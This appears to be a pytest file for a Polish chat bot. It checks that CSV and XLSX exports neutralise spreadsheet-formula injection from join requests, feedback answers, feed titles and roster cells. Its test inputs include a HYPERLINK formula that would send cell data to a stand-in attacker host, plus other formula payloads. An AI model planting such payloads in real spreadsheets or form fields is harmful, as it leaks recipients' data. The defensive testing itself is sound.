"""Issue 23 item 2: hostile text entered through the real commands (a join request's name, city
and position, anonymous feedback answers, a call's title from a feed, roster file cells) comes
out of every CSV and XLSX the bot writes as text, never as a formula (OWASP's CSV-injection
rule), with the visible text kept after a leading apostrophe — on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

from openpyxl import load_workbook
from sqlmodel import select

from core.cells import FORMULA_STARTS, safe_cell, unescape_cell
from core.clock import FrozenClock
from core.config import Settings
from handlers.roster import office as roster
from handlers.roster.sheet import HEADER
from jobs.dispatch import DueDispatcher
from models import directory
from models.db import Database
from models.feedback import Poll
from tests.cast import find_cast
from tests.conftest import Chat
from tests.outbox_files import file_bytes
from tests.test_announcements import number_of, run_flow
from tests.test_feedback import ENDS, core_reps, make_meeting
from tests.test_funding_digest import digests, eu, store
from tests.test_funding_digest import run as run_jobs
from tests.test_meetings import create
from tests.test_roster_import import write_csv

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
HOSTILE = (LINK, "+1+1", "-2", "@SUM(A1)", "\t=1")
NAME, CITY, POSITION = LINK, "+1+1", "@SUM(A1)"


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def assert_no_formula(rows: list[list[str]]) -> list[str]:
    """No cell starts a formula; returns every cell with the escape undone (the visible text)."""
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), repr(cell)
    return [unescape_cell(cell) for cell in cells]


def test_safe_cell_rule() -> None:
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    for kept in ("Łomża", "", "a=1", "'quoted", " =1", "1"):
        assert safe_cell(kept) == kept
    for number in (-2, -2.5, 0, 3):  # real numbers stay numbers, negative ones too
        assert safe_cell(number) == number
    assert safe_cell(None) is None
    assert unescape_cell("'" + LINK) == LINK and unescape_cell("'quoted") == "'quoted"


async def join(chat: Chat, seeded: Database, account: str) -> int:
    """A stranger asks to join with a hostile name, city and position; the coordinator accepts."""
    cast = find_cast(seeded)
    await chat.text(account, "/zglos")
    for answer in (CITY, NAME, POSITION, "evil@example.org", "cyfrowe"):
        await chat.text(account, answer)
    accepted = await chat.text(cast.coordinator, "/przyjmij 1 cyfrowe")
    assert accepted.startswith("Przyjęto"), accepted
    with seeded.session() as s:
        person = directory.person_by_account(s, "console", account)
        assert person is not None and person.display_name == NAME
        return person.id or 0


async def test_attendance_and_delivery_csv_from_a_hostile_join_request(
    chat: Chat, seeded: Database, clock: FrozenClock
) -> None:
    cast = find_cast(seeded)
    await join(chat, seeded, "tg-666")

    # attendance: the observer answers a meeting with an open part
    meeting_id = await create(chat, cast.coordinator, open_part="tak")
    assert "Zapisano" in await chat.text("tg-666", f"/rsvp {meeting_id} online")
    [reply] = await chat.say(cast.organiser, f"/lista_obecnosci {meeting_id}")
    csv_file = next(f for f in reply.files if f.name.endswith(".csv"))
    rows = csv_rows(csv_file.content)
    visible = assert_no_formula(rows)
    for text in (NAME, CITY, POSITION):
        assert text in visible, text
    assert ["'" + NAME, "'" + CITY, "'" + POSITION] in [r[1:4] for r in rows]

    # delivery report of an announcement the hostile person received
    [preview] = await run_flow(
        chat,
        cast.coordinator,
        "cyfrowe",
        "Spotkanie",
        "bez",
        "cyfrowe",
        "wszyscy",
        "prywatnie",
        "tak",
        "teraz",
    )
    await chat.say(cast.coordinator, preview.actions[0].command)
    [report] = await chat.say(cast.coordinator, f"/ogloszenie_raport {number_of(preview)}")
    rows = csv_rows(report.files[0].content)
    assert NAME in assert_no_formula(rows)
    assert "'" + NAME in [r[1] for r in rows]


async def test_feedback_report_csv_with_hostile_open_answers(
    chat: Chat, seeded: Database, clock: FrozenClock, settings: Settings
) -> None:
    cast = find_cast(seeded)
    people = core_reps(seeded)[:5]
    meeting = await make_meeting(chat, cast.coordinator)
    for who in people:
        assert "Zapisano" in await chat.text(who, f"/rsvp {meeting} online")
    jobs = DueDispatcher(seeded, clock, settings)
    clock.set(ENDS + timedelta(minutes=30))
    await jobs.run_once()
    with seeded.session() as s:
        [poll] = s.exec(select(Poll)).all()
    p = poll.id
    # three identical answers each, so the report may show them (fewer are only counted)
    for who in people[:3]:
        await chat.say(who, f"/ankieta {p} 5 {LINK}")
        await chat.say(who, f"/ankieta {p} 6 @SUM(A1)")
    clock.set(poll.closes_at)
    await jobs.run_once()
    [report] = await chat.say(cast.coordinator, f"/raport {meeting}")
    csv_file = next(f for f in report.files if f.name.endswith(".csv"))
    rows = csv_rows(csv_file.content)
    visible = assert_no_formula(rows)
    assert any(LINK in cell for cell in visible), rows
    assert any("@SUM(A1)" in cell for cell in visible), rows
    assert any(cell == "'" + LINK or cell.startswith("'=") for row in rows for cell in row)


async def test_funding_csv_with_hostile_call_titles(
    seeded: Database, clock: FrozenClock, settings: Settings
) -> None:
    base = datetime(2027, 1, 1, tzinfo=UTC)
    records = [
        eu(f"DIGITAL-{i:03d}", f"Digital topic {i}", base + timedelta(days=i)) for i in range(40)
    ]
    hostile = [
        eu(f"DIGITAL-9{i:02d}", f"{text} Digital topic", base + timedelta(days=i))
        for i, text in enumerate(HOSTILE)
    ]
    store(seeded, clock.now(), *records, *hostile)
    await run_jobs(seeded, clock, settings)
    [digest] = digests(seeded)
    [attached] = digest.payload["files"]
    rows = csv_rows(file_bytes(attached, seeded))
    visible = assert_no_formula(rows)
    for text in HOSTILE:
        assert f"{text} Digital topic" in visible, text
        assert f"'{text} Digital topic" in [r[1] for r in rows]
    assert all(r[0].isdigit() for r in rows[1:])  # numbers stay numbers


async def test_roster_csv_and_xlsx_export_keep_hostile_cells_as_text(
    chat: Chat, seeded: Database, tmp_path: Path
) -> None:
    await join(chat, seeded, "tg-667")
    exported_csv, exported_xlsx = tmp_path / "skład.csv", tmp_path / "skład.xlsx"
    assert roster.export_file(seeded, exported_csv) > 0
    assert roster.export_file(seeded, exported_xlsx) > 0

    rows = csv_rows(exported_csv.read_bytes())
    assert rows[0] == list(HEADER)
    visible = assert_no_formula(rows)
    for text in (NAME, CITY, POSITION):
        assert text in visible, text

    book = load_workbook(exported_xlsx)
    sheet = book.worksheets[0]
    values = []
    for line in sheet.iter_rows():
        for cell in line:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_STARTS), repr(cell.value)
                values.append(unescape_cell(cell.value))
    for text in (NAME, CITY, POSITION):
        assert text in values, text
    book.close()
    # the same sheet read back is what the bot wrote (the escape is undone on import)
    xlsx_rows = [
        [("" if v is None else str(v)) for v in r]
        for r in load_workbook(exported_xlsx, read_only=True)
        .worksheets[0]
        .iter_rows(values_only=True)
    ]
    assert [unescape_cell(c) for c in xlsx_rows[1][:4]] == [unescape_cell(c) for c in rows[1][:4]]


def test_roster_file_with_hostile_cells_round_trips(tmp_path: Path) -> None:
    from handlers.roster.sheet import read, write

    row = [
        "cyfrowe",
        CITY,
        "podlaskie",
        "obserwator",
        NAME,
        POSITION,
        "naczelnik",
        "evil@example.org",
        "przedstawiciel",
        "pl",
    ]
    source = write_csv(tmp_path / "in.csv", [row])
    parsed, problems = read(source, ["cyfrowe"])
    assert not [p for p in problems if not p.warning], problems
    out = tmp_path / "out.xlsx"
    write(out, parsed)
    again, _ = read(out, ["cyfrowe"])
    assert again == parsed
